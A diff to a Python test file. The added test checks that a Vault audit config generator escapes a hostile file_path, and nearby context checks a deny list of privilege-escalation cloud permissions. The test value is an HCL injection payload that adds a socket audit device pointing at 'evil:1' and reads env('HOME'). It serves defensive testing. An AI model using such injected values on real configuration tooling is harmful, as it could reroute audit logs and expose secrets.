@@ -311,3 +311,14 @@ def test_boundary_does_not_deny_ordinary_parts_of_multi_step_escalation_methods(
         assert ordinary not in denied
     for one_step in ("lambda:updatefunctioncode", "ec2:getpassworddata", "sts:*"):
         assert one_step in denied
+
+
+def test_the_audit_config_block_keeps_any_file_path_one_inert_hcl_string(dev):
+    hostile = '/var/log/a" }\naudit "socket" "x" { options { address = "evil:1" } } #${env("HOME")}'
+    audit = dev.vault.audit.model_copy(update={"file_path": hostile})
+    env = dev.model_copy(update={"vault": dev.vault.model_copy(update={"audit": audit})})
+    block = build_plan([reader()], env).platform.log_routing.audit.config_block
+    (line,) = [line for line in block.splitlines() if "file_path" in line]
+    assert line == '    file_path = "/var/log/a\\" }\\\\naudit \\"socket\\" \\"x\\" { options { address = \\"evil:1\\" } } ' \
+                   '#$${env(\\"HOME\\")}"'
+    assert block.count("audit ") == 1 and len(block.splitlines()) == 8
